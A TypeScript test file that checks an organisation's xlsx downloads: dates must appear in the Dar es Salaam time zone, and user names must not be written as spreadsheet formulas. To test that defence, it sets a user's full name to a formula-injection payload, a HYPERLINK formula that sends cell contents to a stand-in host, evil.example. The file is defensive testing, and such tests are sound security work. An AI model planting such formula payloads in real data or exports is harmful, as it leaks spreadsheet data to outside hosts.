import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { requests, retirements } from './db/schema.ts';
import {
  appWithStaffedOrganization,
  type StaffedOrganization,
} from '../test/factories/organizations.ts';
import { requestBody, submitted } from '../test/factories/requests.ts';
import { buildRetirement, submittedRetirement } from '../test/factories/retirements.ts';
import { auth, buildUser, type TestApp, type TestUser } from '../test/helpers.ts';

/**
 * The xlsx downloads against the lists they mirror. The organisation's time zone is
 * Africa/Dar_es_Salaam (UTC+3, the default ORG_TIMEZONE): a moment at 22:30 UTC is 01:30 the next
 * day there, and a spreadsheet's date carries no zone, so the sheets write the organisation's clock
 * (they wrote UTC). A full name is free text, so one can read as a formula: the sheets keep it text.
 */

let t: TestApp;
let org: StaffedOrganization;
let evil: TestUser;
const at = '2026-03-01T22:30:00Z';
/** The same moment as a wall-clock time in Dar es Salaam, as a spreadsheet date (no zone). */
const wallClockInDar = new Date('2026-03-02T01:30:00Z');

async function sheetOf(user: TestUser, url: string): Promise<ExcelJS.Worksheet> {
  const response = await t.app.inject({
    method: 'GET',
    url: `/api/v1/${url}`,
    headers: auth(user),
  });
  expect(response.statusCode, response.body).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

function columnOf(sheet: ExcelJS.Worksheet, header: string): number {
  const headers = (sheet.getRow(1).values as unknown[]).slice(1);
  const index = headers.indexOf(header);
  if (index < 0) throw new Error(`no column ${header}: ${headers.join(', ')}`);
  return index + 1;
}

let requestId: string;
let retirementId: string;

beforeAll(async () => {
  ({ t, org } = await appWithStaffedOrganization());
  // A full name is free text (1-200 characters): nothing stops one that reads as a formula.
  evil = await buildUser(t.db, {
    organizationId: org.organizationId,
    fullname: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  });
  const request = await submitted(t.app, org.staff, requestBody(org.budget.code));
  requestId = request.id;
  await t.db
    .update(requests)
    .set({ created_at: sql`${at}::timestamptz` })
    .where(eq(requests.id, requestId));
  const retirement = await buildRetirement(t.app, {
    owner: evil,
    finance: org.finance,
    reviewers: [org.finance, org.secretary],
    budgetCode: org.budget.code,
    amount: 5_000,
  });
  await submittedRetirement(t.app, evil, retirement, { amount_spent: 4_000 });
  retirementId = retirement.id;
  await t.db
    .update(retirements)
    .set({ submitted_at: sql`${at}::timestamptz` })
    .where(eq(retirements.id, retirementId));
});

describe("times in the downloads are the organisation's clock", () => {
  it("requests.xlsx 'Created' shows the moment in the organisation's time zone", async () => {
    const sheet = await sheetOf(org.staff, `requests/download/user?id=${org.staff.id}`);
    const list = await t.app.inject({
      method: 'GET',
      url: `/api/v1/requests/user/${org.staff.id}`,
      headers: auth(org.staff),
    });
    expect(list.json().data[0].id).toBe(requestId);
    const created = sheet.getRow(2).getCell(columnOf(sheet, 'Created')).value as Date;
    // 22:30 UTC on 1 March is 01:30 on 2 March in Dar es Salaam.
    expect(created.toISOString()).toBe(wallClockInDar.toISOString());
  });

  it("retirements.xlsx 'Retirement date' shows the moment in the organisation's time zone", async () => {
    const sheet = await sheetOf(evil, `retirement/download/user?id=${evil.id}`);
    const value = sheet.getRow(2).getCell(columnOf(sheet, 'Retirement date')).value as Date;
    expect(value.toISOString()).toBe(wallClockInDar.toISOString());
  });

  it("the budget download's 'Created' shows the moment in the organisation's time zone", async () => {
    const sheet = await sheetOf(org.finance, `budget/download/${org.budget.code}`);
    const idRow = sheet
      .getRows(2, sheet.rowCount - 1)
      ?.find((row) => row.getCell(columnOf(sheet, 'Name')).value === 'Asha Staff');
    if (!idRow) throw new Error('no row of Asha Staff');
    const value = idRow.getCell(columnOf(sheet, 'Created')).value as Date;
    expect(value.toISOString()).toBe(wallClockInDar.toISOString());
  });
});

describe('user text in the downloads cannot start a formula', () => {
  const startsAFormula = (value: unknown) =>
    typeof value === 'string' && /^[=+\-@\t\r]/.test(value);

  it("retirements.xlsx 'Name' of a user named '=HYPERLINK(...)' is not written as a formula text", async () => {
    const sheet = await sheetOf(evil, `retirement/download/user?id=${evil.id}`);
    const name = sheet.getRow(2).getCell(columnOf(sheet, 'Name')).value;
    expect(String(name)).toContain('HYPERLINK');
    expect(startsAFormula(name)).toBe(false);
  });

  it("the budget download's 'Name' of that user is not written as a formula text", async () => {
    const sheet = await sheetOf(org.finance, `budget/download/${org.budget.code}`);
    const names = (sheet.getColumn(columnOf(sheet, 'Name')).values as unknown[]).slice(2);
    expect(names.some((name) => String(name).includes('HYPERLINK'))).toBe(true);
    expect(names.filter(startsAFormula)).toEqual([]);
  });
  it("the audit trail's 'Who' of that user is not written as a formula text", async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/v1/audit/download?action=request.submitted',
      headers: auth(org.director),
    });
    expect(response.statusCode, response.body).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Audit trail');
    if (!sheet) throw new Error('no sheet');
    const names = (sheet.getColumn(columnOf(sheet, 'Who')).values as unknown[]).slice(2);
    expect(names.some((name) => String(name).includes('HYPERLINK'))).toBe(true);
    expect(names.filter(startsAFormula)).toEqual([]);
  });
});

describe('the admin-mode requests.xlsx mirrors the requests list', () => {
  it("has the list's NAME column, so an organisation-wide download tells whose each request is", async () => {
    await submitted(t.app, org.otherStaff, requestBody(org.budget.code));
    const sheet = await sheetOf(
      org.finance,
      `requests/download/finance_officer?id=${org.finance.id}`,
    );
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    // Spec §2 Requests list: columns name, purpose, expenditure date, amount, status.
    expect(headers).toContain('Name');
    const names = (sheet.getColumn(columnOf(sheet, 'Name')).values as unknown[]).slice(2);
    expect(names).toEqual(expect.arrayContaining(['Asha Staff', 'Juma Other']));
  });
});
